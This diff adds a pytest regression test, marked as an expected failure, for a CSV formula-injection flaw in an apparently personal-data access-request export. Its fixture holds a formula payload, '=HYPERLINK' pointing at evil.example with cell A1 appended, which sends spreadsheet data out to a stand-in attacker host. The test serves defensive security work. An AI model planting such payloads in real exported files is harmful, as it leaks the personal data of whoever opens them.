@@ -355,3 +355,20 @@ def _debt_handler():
     from tests.requests_app.factories import staff
 
     return staff(roles.HANDLER, teams=["debt"])
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="F13: the portability CSV writes values a reporting party typed as they are: a "
+    "value starting with '=' runs as a formula when the resident opens it in a spreadsheet",
+)
+def test_attack17_csv_export_carries_a_formula(published):
+    import csv
+    import io
+
+    DebtSignalFactory(bsn=STRANGER, name='=HYPERLINK("https://evil.example/?"&A1,"klik")')
+    request = _verified("access", STRANGER)
+    records = services.subject_records(request=request, domains=["debt"])
+    built = assembly.answer_build(request=request, records=records, removed={})
+    rows = list(csv.reader(io.StringIO(assembly.answer_csv(built).decode())))
+    assert not any(cell.startswith("=") for row in rows[1:] for cell in row)
